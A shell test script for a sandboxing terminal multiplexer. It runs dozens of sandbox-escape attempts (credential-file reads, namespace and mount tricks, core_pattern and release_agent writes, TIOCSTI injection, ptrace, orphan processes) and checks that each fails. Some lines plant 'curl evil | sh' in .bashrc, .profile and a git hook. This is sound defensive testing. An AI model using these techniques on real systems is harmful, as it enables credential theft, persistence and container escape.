#!/bin/sh
# The escape suite: attacks on a `native` pane, run through the real
# server and the real bubblewrap.
#
# Each attempt is a small script written to $W/attempts/NAME.sh and run
# inside a pane's shell (`sh attempts/run NAME`); its output and exit
# status land in the work tree, and the host then checks that the
# attempt failed *from the outside*: the secret is not in the output,
# the file is not there, the server and the host process still live, the
# other pane's screen is untouched.  C attempts come from progs/*.c,
# compiled here with cc at run time.  Every attempt names its threat in
# a comment and in its ok line.
#
# Where the supervisor reports a denial, the matching violation event
# (`events --follow --json`, action and target) is checked too.  Checks
# that belong to a layer that may be absent (the seccomp shim, the
# supervisor) run only when it is present: the shim when the pane's
# shell has a seccomp filter (Seccomp: 2), the supervisor when a denied
# read of the key is reported as a violation.  Otherwise they print
# "# skip ..." and are not counted.
# The last attempts kill a pane and then the whole server and scan /proc
# for anything that survived.
. "$(dirname "$0")/../lib.sh"
ESCAPE_DIR=$(cd "$(dirname "$0")" && pwd)

for tool in bwrap socat unshare cc; do
	if ! command -v "$tool" >/dev/null 2>&1; then
		not_ok "$tool is installed"
		finish
	fi
done
# Outside /tmp: the sandbox has a private /tmp.  Everything an attempt
# needs (scripts, binaries) is readable in the sandbox at the same path.
W=$(mktemp -d /var/tmp/sandmux-escape.XXXXXX)
chmod 755 "$W"
H="$W/home"
WORK="$W/work"
RO="$W/ro"
BIN="$W/bin"
A="$W/attempts"
R="$WORK/.r"
mkdir -p "$H/.ssh" "$H/.aws" "$H/.gnupg" "$H/.config/gh" "$WORK" "$RO/repo/.git/hooks" \
	"$BIN" "$A" "$R" "$W/run" "$W/state" "$W/config"
chmod 700 "$W/run"
export HOME="$H" XDG_RUNTIME_DIR="$W/run" XDG_STATE_HOME="$W/state" XDG_CONFIG_HOME="$W/config"
SECRET="escape-secret-$$"
echo "$SECRET" >"$H/.ssh/id_ed25519"
echo "$SECRET" >"$H/.aws/credentials"
echo "$SECRET" >"$H/.gnupg/secring.gpg"
echo "$SECRET" >"$H/.config/gh/hosts.yml"
chmod 600 "$H/.ssh/id_ed25519"
echo "read-only original" >"$RO/target"
chmod 644 "$RO/target"
echo "writable" >"$WORK/mine"
HOST_SLEEP=""
FOLLOWER=""
MARK="sandmux-escape-$$"

cleanup_escape() {
	[ -n "$FOLLOWER" ] && kill "$FOLLOWER" 2>/dev/null
	[ -n "$HOST_SLEEP" ] && kill "$HOST_SLEEP" 2>/dev/null
	sm kill-server >/dev/null 2>&1
	[ -n "$NAME2" ] && "$SANDMUX_BIN" -L "$NAME2" kill-server >/dev/null 2>&1
	# Anything an attempt left behind (it should be nothing: checked below).
	for p in $(marker_pids "$MARK"); do kill -9 "$p" 2>/dev/null; done
	rm -rf "$W" "$T_DIR" ${T_STAGE:+"$T_STAGE"} "/etc/$MARK"
}
trap cleanup_escape EXIT

for src in "$ESCAPE_DIR"/progs/*.c; do
	if ! cc -O1 -o "$BIN/$(basename "$src" .c)" "$src" 2>"$W/cc.log"; then
		not_ok "escape program $(basename "$src") compiles"
		cat "$W/cc.log"
		finish
	fi
done

# The wrapper every attempt runs through: output and status into $R.
cat >"$A/run" <<EOF
n=\$1
sh "$A/\$n.sh" >"$R/\$n.tmp" 2>&1
echo " rc=\$?" >>"$R/\$n.tmp"
mv "$R/\$n.tmp" "$R/\$n"
EOF

# --- helpers ------------------------------------------------------------------
ATTEMPTS=0
SKIPPED=0
# marker_pids TEXT: pids of host processes whose command line has TEXT.
marker_pids() {
	for d in /proc/[0-9]*; do
		{ tr '\0' ' ' <"$d/cmdline"; } 2>/dev/null | grep -qF -- "$1" && echo "${d#/proc/}"
	done | grep -vx "$$"
}
newest_pane() { sm ls --json | sed -n 's/.*"id":[^0-9]*\([0-9]*\).*/\1/p' | sort -n | tail -1; }
field_is() { [ "$(pane_field "$1" "$2")" = "$3" ]; }
# native_pane [ARGS...]: a new native pane in the work tree; prints its id.
native_pane() {
	sm split -t %1 -v -l 8 --backend native -c "$WORK" -e PS1='$ ' "$@" \
		-- /bin/bash --norc --noprofile >/dev/null 2>&1
	p=$(newest_pane)
	wait_for 10 field_is "$p" state warm
	echo "$p"
}
# attempt PANE NAME < SCRIPT: run SCRIPT in PANE's shell; $OUT gets its
# output and " rc=N".
attempt() {
	cat >"$A/$2.sh"
	rm -f "$R/$2"
	sm send-keys -t "%$1" "sh $A/run $2" Enter
	if wait_for 20 test -f "$R/$2"; then
		OUT=$(cat "$R/$2")
	else
		OUT="(no result within 20 s)"
	fi
}
# witness PANE: a command typed into PANE's shell once an attempt is
# done; when it has run, whatever the attempt pushed into that shell's
# input (TIOCSTI) ran before it, in the input's order.
N_WITNESS=0
witness() {
	N_WITNESS=$((N_WITNESS + 1))
	sm send-keys -t "%$1" "touch $WORK/witness-$N_WITNESS" Enter
	wait_for 10 test -e "$WORK/witness-$N_WITNESS"
}
# out_witness PANE: a line echoed by PANE's shell once an attempt is
# done; when it shows, whatever the attempt wrote to that terminal
# before it has been read by the server, in the terminal's order.
out_witness() {
	N_WITNESS=$((N_WITNESS + 1))
	sm send-keys -t "%$1" "echo out-witness-$N_WITNESS-\$((6 * 7))" Enter
	wait_for 10 capture_has "%$1" "out-witness-$N_WITNESS-42"
}
# verdict THREAT COMMAND...: one counted attempt; ok if COMMAND succeeds.
verdict() {
	desc=$1
	shift
	ATTEMPTS=$((ATTEMPTS + 1))
	if "$@"; then
		ok "escape: $desc"
	else
		not_ok "escape: $desc"
		printf '%s\n' "$OUT" | head -c 600 | sed 's/^/#   /'
	fi
}
skip() { SKIPPED=$((SKIPPED + 1)); echo "# skip escape: $1 ($2)"; }
out_has() { printf '%s\n' "$OUT" | grep -qF -- "$1"; }
out_lacks() { ! out_has "$1"; }
failed_rc() { out_lacks " rc=0" && out_has " rc="; }
# no_secret: the attempt failed and the secret never appeared.
no_secret() { failed_rc && out_lacks "$SECRET"; }
unchanged() { [ "$(cat "$RO/target")" = "read-only original" ]; }
absent() { [ ! -e "$1" ] && [ ! -L "$1" ]; }
alive() { kill -0 "$1" 2>/dev/null; }
quiet() { "$@" >/dev/null 2>&1; }
all_alive() { for p in "$@"; do [ -n "$p" ] && kill -0 "$p" 2>/dev/null || return 1; done; }
at_least() { [ "$(marker_pids "$1" | wc -l)" -ge "$2" ]; }
none_left() { [ -z "$(marker_pids "$1")" ]; }
first_line_is() { [ "$(printf '%s\n' "$OUT" | head -1)" = "$1" ]; }
host_invisible() { out_lacks "-L $T_NAME server" && out_lacks "$MARK-host-sleep" && out_has "$A/run"; }
list_denied() { out_lacks id_ed25519 && out_has "Permission denied"; }
hard_link_safe() { out_lacks "$SECRET" && ! grep -qF "$SECRET" "$WORK/hard-key" 2>/dev/null; }
pts_untouched() {
	! { sm capture -t "%$B" -S -; sm capture -t %1 -S -; } | grep -qF "$MARK-pts"
}
# reported ACTION TARGET: with the supervisor, a violation event with
# that action names TARGET (not counted as an attempt of its own).
reported() {
	if [ "$SUPERVISOR" = 1 ]; then
		check "... reported: violation $1 $2" wait_for 3 violation_is "$1" "$2"
	else
		skip "... reported as a violation" "no supervisor"
	fi
}
violation_is() {
	grep '"kind":"violation"' "$W/events" 2>/dev/null | grep -F -- "\"$1\"" | grep -qF -- "$2"
}
violation_for() { grep '"kind":"violation"' "$W/events" 2>/dev/null | grep -qF -- "$1"; }

# --- the server and its panes ---------------------------------------------------
sm new -d -s esc -x 200 -y 60 -c "$WORK" -e PS1='$ ' -- /bin/bash --norc --noprofile >/dev/null
sm events --follow --json >"$W/events" 2>&1 &
FOLLOWER=$!
SERVER_PID=$(sm ls --json >/dev/null && marker_pids "-L $T_NAME server" | head -1)
bash -c "exec -a $MARK-host-sleep sleep 1000" &
HOST_SLEEP=$!
P=$(native_pane)
B=$(native_pane)
if ! field_is "$P" backend native || ! field_is "$B" backend native || [ -z "$SERVER_PID" ]; then
	not_ok "native panes start (P=$P $(pane_field "$P" state) B=$B $(pane_field "$B" state) server=$SERVER_PID)"
	finish
fi
ok "setup: two native panes, server pid $SERVER_PID, host process $HOST_SLEEP"

attempt "$P" seccomp <<EOF
grep '^Seccomp:' /proc/self/status
EOF
SHIM=0
out_has "Seccomp:	2" && SHIM=1
SUPERVISOR=0

# --- reading secrets --------------------------------------------------------------
# threat: read a private key directly
attempt "$P" read-direct <<EOF
cat $H/.ssh/id_ed25519
EOF
verdict "read ~/.ssh/id_ed25519 directly" no_secret
wait_for 3 violation_for "$H/.ssh/id_ed25519" && SUPERVISOR=1
echo "# layers: shim (seccomp filter in the pane) $SHIM, supervisor (reports the denied read) $SUPERVISOR"
if [ "$SHIM" = 1 ]; then
	check "the shim's pane is supervised: the denied read is a violation event" [ "$SUPERVISOR" = 1 ]
fi
reported file-read\* "$H/.ssh/id_ed25519"
# threat: list the key directory to learn what is in it
attempt "$P" list-dir <<EOF
ls -a $H/.ssh
EOF
verdict "list ~/.ssh" list_denied
# threat: read cloud credentials
attempt "$P" read-aws <<EOF
cat $H/.aws/credentials
EOF
verdict "read ~/.aws/credentials" no_secret
reported file-read\* "$H/.aws/credentials"
# threat: read the GnuPG keyring
attempt "$P" read-gnupg <<EOF
cat $H/.gnupg/secring.gpg
EOF
verdict "read ~/.gnupg/secring.gpg" no_secret
reported file-read\* "$H/.gnupg/secring.gpg"
# threat: read the GitHub CLI token
attempt "$P" read-gh <<EOF
cat $H/.config/gh/hosts.yml
EOF
verdict "read ~/.config/gh/hosts.yml" no_secret
reported file-read\* "$H/.config/gh/hosts.yml"
# threat: a symlink made inside the sandbox to the key
attempt "$P" symlink-file <<EOF
ln -s $H/.ssh/id_ed25519 $WORK/link-key && cat $WORK/link-key
EOF
verdict "read the key through a new symlink to it" no_secret
# threat: a symlink to the key directory, read through the link
attempt "$P" symlink-dir <<EOF
ln -s $H/.ssh $WORK/link-dir && cat $WORK/link-dir/id_ed25519
EOF
verdict "read the key through a symlink to ~/.ssh" no_secret
# threat: a hard link to the key made from inside (new name, same inode)
attempt "$P" hardlink <<EOF
ln $H/.ssh/id_ed25519 $WORK/hard-key; cat $WORK/hard-key
EOF
verdict "read the key through a new hard link" hard_link_safe
# threat: reach the host root through /proc/self/root
attempt "$P" proc-self-root <<EOF
cat /proc/self/root$H/.ssh/id_ed25519
EOF
verdict "read the key via /proc/self/root" no_secret
# threat: reach the root of pid 1 (the namespace's init) via /proc/1/root
attempt "$P" proc-1-root <<EOF
cat /proc/1/root$H/.ssh/id_ed25519
EOF
verdict "read the key via /proc/1/root" no_secret
# threat: the server's cwd and root through /proc/PID of the host pid
attempt "$P" proc-server-cwd <<EOF
ls /proc/$SERVER_PID/cwd/ && cat /proc/$SERVER_PID/root$H/.ssh/id_ed25519
EOF
verdict "reach /proc/$SERVER_PID/cwd and /root of the server" no_secret
# threat: find the server or any host process by scanning /proc
attempt "$P" proc-scan <<EOF
for d in /proc/[0-9]*; do tr '\0' ' ' <\$d/cmdline; echo; done 2>/dev/null
EOF
verdict "see host processes in /proc" host_invisible
# threat: shocker - open the key by its file handle, bypassing every mount
"$BIN/handle" dump "$H/.ssh/id_ed25519" >"$W/handle" 2>&1
HANDLE=$(cat "$W/handle")
attempt "$P" open-by-handle <<EOF
$BIN/handle open / $HANDLE
EOF
verdict "open_by_handle_at on the key's handle ($HANDLE)" no_secret
# threat: the raw disk under the filesystem
attempt "$P" raw-disk <<EOF
head -c 512 /dev/vda | od -c | head -2; ls /dev/vda /dev/sda /dev/loop0
EOF
verdict "read the raw disk device" failed_rc
# threat: make a block device node for the disk
attempt "$P" mknod-disk <<EOF
mknod $WORK/disk b 253 0 && head -c 16 $WORK/disk
EOF
verdict "mknod a block device" absent "$WORK/disk"
# threat: kernel memory
attempt "$P" kcore <<EOF
head -c 64 /proc/kcore | od -c | head -1; head -c 16 /dev/mem
EOF
verdict "read /proc/kcore or /dev/mem" failed_rc

# --- mounts and namespaces ---------------------------------------------------------
# threat: bind-mount a hidden directory somewhere visible
attempt "$P" bind <<EOF
mkdir -p $WORK/mnt && mount --bind $H/.ssh $WORK/mnt && cat $WORK/mnt/id_ed25519
EOF
verdict "mount --bind ~/.ssh elsewhere" no_secret
# threat: unmount the mask over ~/.ssh
attempt "$P" umount <<EOF
umount $H/.ssh || umount -l $H/.ssh; cat $H/.ssh/id_ed25519
EOF
verdict "umount the ~/.ssh mask" no_secret
# threat: a new user namespace, then read the key as its "root"
attempt "$P" userns-read <<EOF
unshare -Ur cat $H/.ssh/id_ed25519
EOF
verdict "unshare -Ur, then read the key" no_secret
# threat: new user+mount namespace, then unmount the (locked) mask
attempt "$P" userns-umount <<EOF
unshare -Urm sh -c 'umount -l $H/.ssh; cat $H/.ssh/id_ed25519'
EOF
verdict "unshare -Urm, umount the mask, read the key" no_secret
# threat: non-recursive bind of / in a new mount namespace drops the masks
attempt "$P" userns-bind-root <<EOF
unshare -Urm sh -c 'mount --bind / /mnt && cat /mnt$H/.ssh/id_ed25519'
EOF
verdict "unshare -Urm, mount --bind / /mnt (peel the masks off)" no_secret
# threat: non-recursive bind of HOME, whose child mount is the mask
attempt "$P" userns-bind-home <<EOF
unshare -Urm sh -c 'mount --bind $H /mnt && cat /mnt/.ssh/id_ed25519'
EOF
verdict "unshare -Urm, mount --bind HOME /mnt" no_secret
# threat: recursive bind, then unmount the copied mask
attempt "$P" userns-rbind <<EOF
unshare -Urm sh -c 'mount --rbind / /mnt && umount -l /mnt$H/.ssh; cat /mnt$H/.ssh/id_ed25519'
EOF
verdict "unshare -Urm, mount --rbind / /mnt, umount the copied mask" no_secret
# threat: remount the read-only root writable and write to the host
attempt "$P" userns-remount <<EOF
unshare -Urm sh -c 'mount -o remount,rw / ; mount -o remount,rw,bind / ; echo x >/etc/$MARK'
EOF
verdict "unshare -Urm, remount / rw, write /etc" absent "/etc/$MARK"
if [ "$SHIM" = 1 ]; then
	# threat: namespace creation itself (the shim denies it)
	attempt "$P" userns-create <<EOF
unshare -U true
EOF
	verdict "create a user namespace under the shim" failed_rc
else
	skip "create a user namespace (denied by the shim)" "no seccomp filter in the pane: the shim has not landed"
fi
# threat: join the server's namespaces through /proc/PID/ns
attempt "$P" setns <<EOF
nsenter --mount=/proc/$SERVER_PID/ns/mnt cat $H/.ssh/id_ed25519
EOF
verdict "nsenter the server's mount namespace" no_secret

# --- writing outside the writable roots ----------------------------------------------
# threat: write system configuration
attempt "$P" write-etc <<EOF
echo x >/etc/$MARK
EOF
verdict "write a file in /etc" absent "/etc/$MARK"
reported file-write\* "/etc/$MARK"
# threat: write a host directory outside HOME and the work tree
attempt "$P" write-ro-new <<EOF
echo x >$RO/new
EOF
verdict "create a file in a host directory outside the roots" absent "$RO/new"
reported file-write\* "$RO/new"
# threat: append to a host file outside the roots
attempt "$P" write-ro-append <<EOF
echo x >>$RO/target
EOF
verdict "append to a read-only host file" unchanged
# threat: rename a writable file over a read-only one
attempt "$P" rename-over <<EOF
echo evil >$WORK/evil && mv -f $WORK/evil $RO/target
EOF
verdict "rename a writable file over a read-only one" unchanged
reported file-write\* "$RO/target"
# threat: move a read-only file away (delete it)
attempt "$P" rename-away <<EOF
mv $RO/target $WORK/stolen
EOF
verdict "move a read-only host file into the work tree" sh -c "[ -f '$RO/target' ]"
# threat: delete a read-only file
attempt "$P" unlink-ro <<EOF
rm -f $RO/target
EOF
verdict "delete a read-only host file" sh -c "[ -f '$RO/target' ]"
# threat: truncate a read-only file
attempt "$P" truncate-ro <<EOF
truncate -s 0 $RO/target
EOF
verdict "truncate a read-only host file" unchanged
# threat: change a read-only file's mode
attempt "$P" chmod-ro <<EOF
chmod 777 $RO/target
EOF
verdict "chmod a read-only host file" sh -c "[ \$(stat -c %a '$RO/target') = 644 ]"
# threat: a symlink in the work tree pointing at a host file, written through
attempt "$P" symlink-write <<EOF
ln -s $RO/target $WORK/sl && echo evil >>$WORK/sl
EOF
verdict "write a read-only file through a symlink in the work tree" unchanged
# threat: a hard link from the work tree to a read-only file, written through
attempt "$P" hardlink-write <<EOF
ln $RO/target $WORK/hl; echo evil >>$WORK/hl
EOF
verdict "write a read-only file through a hard link" unchanged
# threat: write through /proc/self/root
attempt "$P" proc-root-write <<EOF
echo evil >>/proc/self/root$RO/target
EOF
verdict "write a read-only file via /proc/self/root" unchanged
# threat: put a binary on the host's PATH
attempt "$P" write-usr-bin <<EOF
echo '#!/bin/sh' >/usr/local/bin/$MARK
EOF
verdict "create /usr/local/bin/$MARK" absent "/usr/local/bin/$MARK"
reported file-write\* "/usr/local/bin/$MARK"
# threat: plant a git hook in a repository outside the roots
attempt "$P" hook-ro-repo <<EOF
echo 'touch /tmp/pwned' >$RO/repo/.git/hooks/pre-commit
EOF
verdict "plant .git/hooks/pre-commit in a repository outside the roots" absent "$RO/repo/.git/hooks/pre-commit"
reported file-write\* "$RO/repo/.git/hooks/pre-commit"
# threat: forge or erase the durable violation log
attempt "$P" event-log <<EOF
echo '{"kind":"forged"}' >>$W/state/sandmux/events.jsonl
EOF
verdict "append to the server's event log" sh -c "! grep -q forged '$W/state/sandmux/events.jsonl'"
# threat: the kernel's core_pattern (runs a program as host root on a crash)
attempt "$P" core-pattern <<EOF
cat /proc/sys/kernel/core_pattern >/proc/sys/kernel/core_pattern
EOF
verdict "write /proc/sys/kernel/core_pattern" failed_rc
# threat: kernel.modprobe (the kernel runs it as host root on demand)
attempt "$P" modprobe <<EOF
cat /proc/sys/kernel/modprobe >/proc/sys/kernel/modprobe
EOF
verdict "write /proc/sys/kernel/modprobe" failed_rc
# threat: sysrq (h only prints help; a success would be the hole)
attempt "$P" sysrq <<EOF
echo h >/proc/sysrq-trigger
EOF
verdict "write /proc/sysrq-trigger" failed_rc
# threat: cgroup release_agent (the classic container escape)
attempt "$P" cgroup <<EOF
mkdir /sys/fs/cgroup/$MARK && echo 1 >/sys/fs/cgroup/$MARK/notify_on_release
EOF
verdict "create a cgroup for release_agent" absent "/sys/fs/cgroup/$MARK"

# --- terminal injection -----------------------------------------------------------------
# threat: TIOCSTI pushes a command into the pane's own shell input
attempt "$P" tiocsti <<EOF
$BIN/tiocsti "touch $WORK/injected-sti"
EOF
witness "$P"
verdict "TIOCSTI injection into the pane's shell" absent "$WORK/injected-sti"
# threat: TIOCSTI with high bits set in the request number (filter bypass)
attempt "$P" tiocsti-wide <<EOF
$BIN/tiocsti "touch $WORK/injected-wide" wide
EOF
witness "$P"
verdict "TIOCSTI with 0xdead in the high 32 bits of the request" absent "$WORK/injected-wide"
# threat: TIOCLINUX selection paste into the terminal's input
attempt "$P" tioclinux <<EOF
$BIN/tioclinux
EOF
verdict "TIOCLINUX set-selection + paste" failed_rc
# threat: write into another pane's terminal through /dev/pts
BPTS=$(readlink "/proc/$(pane_field "$B" pid)/fd/0")
attempt "$P" other-pts <<EOF
echo $MARK-pts >$BPTS; for t in /dev/pts/[0-9]*; do echo $MARK-pts >\$t; done; ls /dev/pts
EOF
out_witness "$B"
out_witness 1
verdict "write $BPTS (pane $B's terminal) or the host pane's" pts_untouched
# threat: TIOCSTI into another pane's terminal
attempt "$P" other-pts-sti <<EOF
$BIN/tiocsti "touch $WORK/injected-other" <$BPTS
EOF
witness "$B"
verdict "TIOCSTI into pane $B's terminal" absent "$WORK/injected-other"

# --- other processes -----------------------------------------------------------------------
# threat: ptrace the server
attempt "$P" ptrace-server <<EOF
$BIN/tracer attach $SERVER_PID
EOF
verdict "ptrace(PTRACE_ATTACH) the server" failed_rc
# threat: process_vm_writev into the server
attempt "$P" vmwrite-server <<EOF
$BIN/tracer vmwrite $SERVER_PID
EOF
verdict "process_vm_writev into the server" failed_rc
# threat: process_vm_readv from the server
attempt "$P" vmread-server <<EOF
$BIN/tracer vmread $SERVER_PID
EOF
verdict "process_vm_readv from the server" failed_rc
# threat: /proc/PID/mem of the server
attempt "$P" mem-server <<EOF
$BIN/tracer mem $SERVER_PID
EOF
verdict "open /proc/$SERVER_PID/mem read-write" failed_rc
# threat: kill the server
attempt "$P" kill-server <<EOF
kill -9 $SERVER_PID
EOF
verdict "kill -9 the server (host pid $SERVER_PID)" alive "$SERVER_PID"
# threat: kill a host process
attempt "$P" kill-host <<EOF
kill -9 $HOST_SLEEP
EOF
verdict "kill -9 a host process ($HOST_SLEEP)" alive "$HOST_SLEEP"
# threat: pidfd_send_signal to the server
attempt "$P" pidfd-server <<EOF
$BIN/tracer pidfd $SERVER_PID
EOF
verdict "pidfd_open + pidfd_send_signal the server" alive "$SERVER_PID"
if [ "$SHIM" = 1 ]; then
	# threat: io_uring performs opens the seccomp supervisor never sees
	attempt "$P" io-uring <<EOF
$BIN/iouring
EOF
	verdict "io_uring_setup under the shim" failed_rc
else
	skip "io_uring_setup (denied by the shim)" "no seccomp filter in the pane"
fi

# --- the server's socket and leaked descriptors ------------------------------------------------
SOCK="$W/run/sandmux/$T_NAME"
# threat: find the server's socket
attempt "$P" socket-list <<EOF
ls -la $W/run/sandmux/
EOF
verdict "list the socket directory" out_lacks "$T_NAME"
# threat: drive the server (new host panes) through its socket
attempt "$P" socket-connect <<EOF
printf '{"id":1,"cmd":"hello","version":1}\n' | socat -t 2 - UNIX-CONNECT:$SOCK
EOF
verdict "connect to the server's socket" out_lacks '"ok":true'
# threat: read the socket file itself
attempt "$P" socket-read <<EOF
cat $SOCK
EOF
verdict "read the server's socket file" failed_rc
reported file-read\* "$SOCK"
# threat: the fallback socket directory under the host's /tmp
attempt "$P" socket-tmp <<EOF
ls /tmp/sandmux-*/
EOF
verdict "reach sockets under the host's /tmp" failed_rc
# threat: inherited descriptors (status memfd, listener, sockets, host dirs)
attempt "$P" fd-leak <<EOF
$BIN/fdscan $WORK $A
EOF
verdict "find a leaked descriptor in any sandboxed process" out_has "fdscan: 0 leaked"
if [ "$SHIM" = 1 ]; then
	# threat: a process inside holds the seccomp listener and answers for itself
	attempt "$P" listener-leak <<EOF
ls -l /proc/[0-9]*/fd/ 2>/dev/null | grep -c 'seccomp'
EOF
	verdict "find the seccomp listener inside the sandbox" first_line_is 0
else
	skip "find the seccomp listener inside the sandbox" "no shim, no listener"
fi

# --- the agent profile (supervisor) -----------------------------------------------------------
if [ "$SUPERVISOR" = 1 ]; then
	mkdir -p "$WORK/.git/hooks"
	G=$(native_pane --profile agent)
	if ! field_is "$G" backend native; then
		not_ok "escape: an agent pane starts ($(pane_field "$G" reason))"
	else
		# threat: persistence through a shell rc file run later on the host
		attempt "$G" agent-bashrc <<EOF
echo 'curl evil | sh' >>$H/.bashrc
EOF
		verdict "agent: write ~/.bashrc" absent "$H/.bashrc"
		# threat: persistence through a login profile
		attempt "$G" agent-profile <<EOF
echo 'curl evil | sh' >>$H/.profile
EOF
		verdict "agent: write ~/.profile" absent "$H/.profile"
		# threat: git config aliases that run commands
		attempt "$G" agent-gitconfig <<EOF
printf '[alias]\n\tst = !sh -c evil\n' >>$H/.gitconfig
EOF
		verdict "agent: write ~/.gitconfig" absent "$H/.gitconfig"
		# threat: a git hook in the work tree runs on the host's next commit
		attempt "$G" agent-hook <<EOF
echo 'curl evil | sh' >$WORK/.git/hooks/pre-commit
EOF
		verdict "agent: write .git/hooks/pre-commit" absent "$WORK/.git/hooks/pre-commit"
		# threat: MCP server config that runs commands
		attempt "$G" agent-mcp <<EOF
echo '{}' >$WORK/.mcp.json
EOF
		verdict "agent: write .mcp.json" absent "$WORK/.mcp.json"
		# threat: every way of creating a file with a denied name
		k=0
		for how in creat openat2 tmpfile rename exchange link symlink mknod; do
			k=$((k + 1))
			case $((k % 3)) in 0) name=".env" ;; 1) name="id-$k.key" ;; *) name="cert-$k.pem" ;; esac
			dir="$WORK/names-$how"
			mkdir -p "$dir"
			attempt "$G" "agent-name-$how" <<EOF
$BIN/mkname $how $dir $name
EOF
			verdict "agent: create $name by $how" absent "$dir/$name"
			reported file-write-create "$dir/$name"
		done
		# threat: the shell's own redirection and common tools
		attempt "$G" agent-name-shell <<EOF
echo SECRET=x >$WORK/.env; cp $WORK/mine $WORK/server.pem; touch $WORK/id.key
EOF
		verdict "agent: create .env / server.pem / id.key with >, cp, touch" \
			sh -c "[ ! -e '$WORK/.env' ] && [ ! -e '$WORK/server.pem' ] && [ ! -e '$WORK/id.key' ]"
		reported file-write-create "$WORK/.env"
		reported file-write-create "$WORK/server.pem"
		reported file-write-create "$WORK/id.key"
	fi
else
	for what in "write ~/.bashrc" "write ~/.profile" "write ~/.gitconfig" \
		"write .git/hooks/pre-commit" "write .mcp.json" "create denied names (.env, *.key, *.pem) 8 ways"; do
		skip "agent: $what" "no supervisor: a denied read was not reported"
	done
fi

# --- processes that try to outlive their sandbox ---------------------------------------------------
# threat: kill -9 -1 inside reaches beyond the sandbox
K=$(native_pane)
kpid=$(pane_field "$K" pid)
# The runner itself is among what kill -9 -1 kills, so no result comes:
# the attempt is over when the pane's sandbox has ended (or, if the
# kill spared the runner, when its result is there).
killed_or_done() { [ -f "$R/kill-all" ] || { [ -n "$kpid" ] && dead "$kpid"; }; }
cat >"$A/kill-all.sh" <<EOF
kill -9 -1
EOF
rm -f "$R/kill-all"
sm send-keys -t "%$K" "sh $A/run kill-all" Enter
wait_for 20 killed_or_done
OUT=$(cat "$R/kill-all" 2>/dev/null || echo "(no result: the sandbox ended)")
# The thing under test: nothing outside dies.  kill(2) has sent its
# signals when the attempt ends; the half second is for a SIGKILLed
# process to be gone.
sleep 0.5
verdict "kill -9 -1 inside kills nothing outside" \
	all_alive "$SERVER_PID" "$HOST_SLEEP" "$(pane_field "$B" pid)"
# threat: orphans (setsid + double fork, SIGHUP ignored) outlive kill-pane
O=$(native_pane)
attempt "$O" orphans <<EOF
setsid bash -c '(exec -a $MARK-orphan1 sleep 1000 &) &'
nohup bash -c 'trap "" HUP TERM; exec -a $MARK-orphan2 sleep 1000' >/dev/null 2>&1 &
bash -c '(trap "" HUP TERM INT; exec -a $MARK-orphan3 sleep 1000 &) &'
sleep 0.3
EOF
wait_for 10 at_least "$MARK-orphan" 3
n_before=$(marker_pids "$MARK-orphan" | wc -l)
sm kill-pane -t "%$O" >/dev/null
wait_for 5 none_left "$MARK-orphan"
n_after=$(marker_pids "$MARK-orphan" | wc -l)
OUT="orphans before kill-pane: $n_before, after: $n_after"
verdict "orphans survive kill-pane ($OUT)" sh -c "[ $n_before -ge 3 ] && [ $n_after -eq 0 ]"
check "the server and the other native pane are unaffected" \
	all_alive "$SERVER_PID" "$(pane_field "$B" pid)"

# threat: processes in a pane survive the death of the server (kill -9)
NAME2="${T_NAME}b"
sm2() { "$SANDMUX_BIN" -L "$NAME2" "$@"; }
sm2 new -d -s die -x 120 -y 40 -c "$WORK" -e PS1='$ ' -- /bin/bash --norc --noprofile >/dev/null
sm2 split -t %1 --backend native -c "$WORK" -e PS1='$ ' -- /bin/bash --norc --noprofile >/dev/null
wait_for 10 sh -c "\"$SANDMUX_BIN\" -L $NAME2 ls | grep -q 'native warm'"
sm2 send-keys -t %2 "setsid bash -c '(trap \"\" HUP TERM; exec -a $MARK-die1 sleep 1000 &) &'; nohup bash -c 'exec -a $MARK-die2 sleep 1000' >/dev/null 2>&1 & disown" Enter
wait_for 5 at_least "$MARK-die" 2
n_before=$(marker_pids "$MARK-die" | wc -l)
SERVER2=$(marker_pids "-L $NAME2 server" | head -1)
[ -n "$SERVER2" ] && kill -9 "$SERVER2"
wait_for 5 none_left "$MARK-die"
n_after=$(marker_pids "$MARK-die" | wc -l)
OUT="sandboxed processes before kill -9 of server $SERVER2: $n_before, after: $n_after"
verdict "setsid/double-fork processes outlive a kill -9 of the server ($OUT)" \
	sh -c "[ -n '$SERVER2' ] && [ $n_before -ge 2 ] && [ $n_after -eq 0 ]"

if quiet sm ls; then
	ok "the first server is still responsive"
else
	not_ok "the first server is still responsive"
	tail -20 "$W/state/sandmux/server-$T_NAME.log" | sed 's/^/# server log: /'
fi
echo "# escape attempts: $ATTEMPTS counted, $SKIPPED skipped (layers: shim $SHIM, supervisor $SUPERVISOR)"
finish
